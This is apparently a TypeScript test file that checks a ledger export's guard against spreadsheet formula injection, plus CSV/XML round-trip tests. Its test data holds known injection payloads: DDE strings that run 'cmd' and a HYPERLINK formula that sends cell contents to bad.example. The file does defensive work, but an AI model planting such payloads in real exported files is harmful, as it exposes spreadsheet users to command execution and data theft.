import assert from 'node:assert/strict'
import { join } from 'node:path'
import { test } from 'node:test'
import fc from 'fast-check'
import type { DbClient } from '#platform'
import { guardFormula, unguardFormula } from '../../../src/ledger/exports/guard-formulas.ts'
import { aLedger } from '../support.ts'
import { aLedgerToExport, fileOf } from './support.ts'

const mapping = (name: string) => join(import.meta.dirname, '../../../samples/exports', name)

test('a guarded text starts with nothing that a spreadsheet calculates, and comes back as it was', () => {
  const part = fc.constantFrom(
    '=',
    '+',
    '-',
    '@',
    '\t',
    '\r',
    '\n',
    ';',
    ',',
    '＝',
    '＋',
    '－',
    '＠',
    '−',
    "'",
    '"',
    ' ',
    '\u00a0',
    '\u200b',
    '\ufeff',
    '5',
    'A1',
    'F(',
    '|',
    '!',
  )
  const nasty = fc.tuple(fc.array(part, { maxLength: 12 }), fc.string({ unit: 'binary' })).map(([parts, text]) => parts.join('') + text)
  fc.assert(
    fc.property(nasty, text => {
      const guarded = guardFormula(text)

      if (!/^[+-][\d ()./,-]+$/.test(guarded)) assert.doesNotMatch(guarded, /^[\s\p{Cc}\p{Cf}]*[=+\-@＝＋－＠−]|^[\t\r\n]/u)
      for (const piece of guarded.split(/[;,\t\r\n]/).slice(1)) assert.doesNotMatch(piece, /^[\s"]*[=＝]|^[\s"]*[+\-@＋－＠−].*[(|!]/)
      assert.equal(unguardFormula(guarded), text)
    }),
  )
})

test('the guard stops what is known to be tried, and leaves names, numbers, telephones and lists as they are', () => {
  const attacks = [
    '=1+1',
    '+1+1',
    '-1+1',
    '@SUM(1+1)',
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    '\u00a0=1+1',
    '＝1+1',
    '＋A1',
    '−A1',
    '＠SUM（1）',
    '=HYPERLINK("http://bad.example?"&A1,"open")',
    "=cmd|'/C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '+31612345678=A1',
    '+31-A1',
  ]
  const behind = ['Acme;=1+1', 'Acme,=1+1', 'Acme\n=1+1', ';=1+1', 'Acme","=1+1', "Acme;-2+3+cmd|' /C calc'!A0", 'Acme, @SUM(A1)', 'Acme;＝A1']
  const plain = [
    '007',
    'a=b',
    '5-1',
    "'s-Hertogenbosch",
    'Ünal',
    '-5',
    '+5,25',
    '+31 (0)6 12.34-56/78',
    '+31612345678',
    'Gebeld:\n- Jan\n- Piet',
    'Bos, @jan',
    'x, -10%',
  ]

  assert.deepEqual(
    attacks.filter(text => !guardFormula(text).startsWith("'")),
    [],
  )
  assert.deepEqual(
    behind.filter(text => /[;,\n]["\s]*[=+\-@＝]/.test(guardFormula(text))),
    [],
  )
  assert.deepEqual(plain.map(guardFormula), plain)
  assert.deepEqual(
    [...attacks, ...behind].map(text => unguardFormula(guardFormula(text))),
    [...attacks, ...behind],
  )
})

/** A text as the ledger may hold it: trimmed, with line ends as one line feed. */
const texts = (isXml: boolean) =>
  fc
    .tuple(
      fc.constantFrom(
        '=1+1',
        '+31 20',
        '+31 20 123 45',
        'a;=1',
        '-5',
        '@x',
        "'=2",
        '＝3',
        '"',
        ';',
        'a;"b"\nc',
        '<&]]>',
        '&#13;',
        '&amp;',
        'שלום \u202eabc',
        '😀',
        '00',
        'x\ry',
        '',
      ),
      fc.string({ unit: 'binary', maxLength: 30 }),
    )
    .map(parts => parts.join(''))
    .map(text => (isXml ? text.replaceAll(/[^\t\n\r\u0020-\ud7ff\ue000-\ufffd\u{10000}-\u{10ffff}]/gu, '') : text))
    .map(
      text =>
        text
          .replaceAll(/[\0\ufffd]/g, '')
          .replaceAll('\r\n', '\n')
          .trim() || 'x',
    )

const cents = fc.integer({ min: 1, max: 10_000_000 }).map(value => (value / 100).toFixed(2))
const day = fc.integer({ min: 0, max: 5000 }).map(days => new Date(Date.UTC(2015, 0, 1 + days)))
const mark = fc.constantFrom('', '00', '=', '+', '-', '@', "'=", '"', ';', 'É/')

const addressLine = fc.constantFrom('Kade 1', '=Hof; 2', '@home', 'unit 3, gate B', '1012 AB AMSTERDAM', 'ul. Długa 5/7')

const list = <T>(of: fc.Arbitrary<T>) => fc.array(of, { minLength: 1, maxLength: 9, size: 'max' })

const ledgers = (isXml: boolean) => {
  const text = texts(isXml)
  const debtor = fc.record({
    mark,
    name: text,
    contact: text,
    phone: text,
    collector: text,
    group: fc.option(text),
    email: fc.option(fc.emailAddress({ size: 'small' })),
    address: fc.option(fc.uniqueArray(addressLine, { minLength: 2, maxLength: 4 }).map(lines => lines.join('\n'))),
  })
  const invoice = fc.record({ mark, debtor: fc.nat(), due: day, amount: cents, open: fc.constantFrom(1, 0.5, 0), isCredit: fc.boolean(), po: fc.option(text) })
  const payment = fc.record({ mark, received: day, amount: cents, invoice: fc.option(fc.nat()), text: fc.option(text) })
  return fc.record({ debtors: list(debtor), invoices: list(invoice), payments: list(payment) })
}
type Generated = typeof ledgers extends (isXml: boolean) => fc.Arbitrary<infer L> ? L : never

async function fill(db: DbClient, { debtors, invoices, payments }: Generated): Promise<void> {
  const book = await db.administration.create({ data: { code: 'NL01', name: 'NL01' } })
  const administrationId = book.id
  const made: number[] = []
  for (const [index, given] of debtors.entries()) {
    const group = given.group === null ? null : await db.debtorGroup.upsert({ where: { name: given.group }, create: { name: given.group }, update: {} })
    const contacts = { create: { name: given.contact, phone: given.phone, email: given.email?.toLowerCase() ?? null, address: given.address } }
    const { id } = await db.debtor.create({
      data: {
        administrationId,
        number: `${given.mark}D${index}`,
        name: given.name,
        searchName: 'x',
        collector: given.collector,
        groupId: group?.id ?? null,
        contacts,
      },
    })
    made.push(id)
  }
  const billed: { id: number; amount: string; debtorId: number }[] = []
  for (const [index, given] of invoices.entries()) {
    const amount = `${given.isCredit ? '-' : ''}${given.amount}`
    const open = given.open === 1 ? amount : given.open === 0 ? '0' : `${given.isCredit ? '-' : ''}0.01`
    const debtorId = made[given.debtor % made.length] ?? 0
    const { id } = await db.invoice.create({
      data: {
        administrationId,
        debtorId,
        number: `${given.mark}F${index}`,
        searchNumber: `F${index}`,
        kind: given.isCredit ? 'credit_note' : 'invoice',
        dueDate: given.due,
        currency: 'EUR',
        amount,
        openAmount: open,
        status: open === '0' ? 'closed' : 'open',
        poNumber: given.po,
      },
    })
    if (!given.isCredit) billed.push({ id, amount: given.amount, debtorId })
  }
  for (const [index, given] of payments.entries()) {
    const invoice = given.invoice === null ? undefined : billed[given.invoice % billed.length]
    const data = {
      administrationId,
      reference: `${given.mark}P${index}`,
      receivedOn: given.received,
      currency: 'EUR',
      amount: given.amount,
      text: given.text,
      debtorId: invoice?.debtorId ?? null,
    }
    const isAllocated = invoice && !(await db.paymentAllocation.findFirst({ where: { invoiceId: invoice.id } }))
    const amount = Math.min(Number(given.amount), Number(invoice?.amount ?? 0)).toFixed(2)
    await db.payment.create({ data: { ...data, ...(isAllocated && { allocations: { create: { invoiceId: invoice.id, amount } } }) } })
  }
}

const empty = async (db: DbClient) => void (await db.$executeRaw`TRUNCATE "Administration", "DebtorGroup" CASCADE`)

for (const format of ['csv', 'xml'] as const) {
  test(`a ledger that is exported as ${format} and imported elsewhere by the shipped mappings is the same ledger`, async t => {
    const [from, to] = [await aLedgerToExport(t), await aLedger(t)]
    const steps = [
      ['debtors', `debtors-${format}.yaml`],
      [format === 'csv' ? 'invoices' : 'open_items', format === 'csv' ? 'invoices-csv.yaml' : 'open-items-xml.yaml'],
      ['payments', `payments-${format}.yaml`],
    ] as const
    const contents = steps.map(([content]) => content)
    const dump = async (ledger: typeof to) => ({
      ...(await ledger.dump()),
      payments: await ledger.db.payment.findMany({
        orderBy: { reference: 'asc' },
        select: { reference: true, receivedOn: true, amount: true, currency: true, text: true, debtor: { select: { number: true } } },
      }),
      addresses: await ledger.db.contact.findMany({ orderBy: { debtor: { number: 'asc' } }, select: { address: true, debtor: { select: { number: true } } } }),
      numbers: await ledger.db.invoice.findMany({
        orderBy: { number: 'asc' },
        select: { number: true, poNumber: true, kind: true, administration: { select: { code: true } } },
      }),
    })

    await fc.assert(
      fc.asyncProperty(ledgers(format === 'xml'), async generated => {
        await empty(from.db)
        await empty(to.db)
        await fill(from.db, generated)
        // What is open is all that an export of open items can hold.
        if (format === 'xml') await from.db.$executeRaw`UPDATE "Invoice" SET "openAmount" = amount, status = 'open'`

        const outcome = await from.export({ format, contents: [...contents] })
        for (const [content, name] of steps) {
          const result = await to.import({ file: join(from.folder, fileOf(outcome, content)), mapping: mapping(name) })
          assert.deepEqual([result.kind, result.rejects, result.warnings], ['imported', [], []], content)
        }

        assert.deepEqual(await dump(to), await dump(from))
      }),
      { numRuns: 3, endOnFailure: true },
    )
  })
}
